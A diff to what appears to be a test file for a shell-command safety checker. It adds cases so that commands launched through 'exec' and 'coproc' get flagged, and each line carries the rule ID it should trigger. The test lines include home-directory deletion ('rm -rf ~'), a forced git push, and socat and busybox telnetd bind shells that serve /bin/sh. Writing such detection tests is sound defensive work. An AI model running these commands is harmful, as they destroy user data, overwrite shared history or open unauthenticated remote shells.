@@ -85,6 +85,15 @@ socat TCP-LISTEN:4444 'TCP:10.0.0.1:80|EXEC:sh'
 # ruleid: GK-NET-001
 socat TCP-LISTEN:4444 'STDIO%exec:sh'
 
+# -- `exec CMD` and `coproc CMD` run CMD: it was "exec replaces the shell" (REVIEW) and CMD
+# was never judged --------------------------------------------------------------------------
+# ruleid: GK-BASH-008
+exec rm -rf ~
+# ruleid: GK-GIT-002
+exec -a x git push --force
+# ruleid: GK-BASH-008
+coproc rm -rf ~
+
 # -- busybox's telnetd with a shell as its login program serves that shell, no password --
 # ruleid: GK-NET-001
 busybox telnetd -p 4444 -l /bin/sh
